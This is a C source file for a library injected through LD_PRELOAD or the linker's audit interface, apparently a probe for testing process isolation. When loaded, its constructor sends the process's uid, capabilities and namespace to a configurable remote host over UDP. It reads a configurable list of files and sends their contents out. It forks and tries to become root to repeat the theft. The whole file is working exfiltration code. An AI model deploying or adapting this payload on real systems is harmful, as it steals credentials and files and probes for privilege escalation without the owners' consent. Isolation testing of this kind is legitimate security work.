/* Loaded by whatever obeys LD_PRELOAD and its kind: says who it runs as, and what it can read there. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *text) {
  const char *host = getenv("HOSTILE_HOST"), *port = getenv("HOSTILE_PORT"), *mark = getenv("HOSTILE_MARK");
  if (!host || !port || !mark) return;
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
  inet_pton(AF_INET, host, &to.sin_addr);
  char line[4096];
  int size = snprintf(line, sizeof line, "%s %s", mark, text);
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return;
  sendto(fd, line, size < (int)sizeof line ? size : (int)sizeof line - 1, 0, (struct sockaddr *)&to, sizeof to);
  close(fd);
}

static void who(void) {
  char status[4096] = "", caps[32] = "", space[128] = "", line[512];
  int fd = open("/proc/self/status", O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    long size = read(fd, status, sizeof status - 1);
    status[size > 0 ? size : 0] = 0;
    close(fd);
  }
  const char *found = strstr(status, "CapEff:");
  if (found) sscanf(found, "CapEff: %31s", caps);
  long size = readlink("/proc/self/ns/pid", space, sizeof space - 1);
  space[size > 0 ? size : 0] = 0;
  snprintf(line, sizeof line, "RAN uid=%d caps=%s pidns=%s", (int)geteuid(), caps, space);
  say(line);
}

static void loot(void) {
  char paths[8192], text[2048];
  snprintf(paths, sizeof paths, "%s", getenv("HOSTILE_LOOT") ? getenv("HOSTILE_LOOT") : "");
  for (char *path = strtok(paths, ":"); path; path = strtok(NULL, ":")) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    long size = read(fd, text, sizeof text - 1);
    text[size > 0 ? size : 0] = 0;
    close(fd);
    say(text);
  }
}

__attribute__((constructor)) static void begin(void) {
  if (!getenv("HOSTILE_MARK")) return;
  who();
  loot();
  long child = syscall(SYS_fork);
  if (child == 0) {
    if (syscall(SYS_setresuid, 0, 0, 0) == 0) {
      who();
      loot();
    }
    _exit(0);
  }
  if (child > 0) waitpid(child, NULL, 0);
}

unsigned la_version(unsigned version) { return version; }
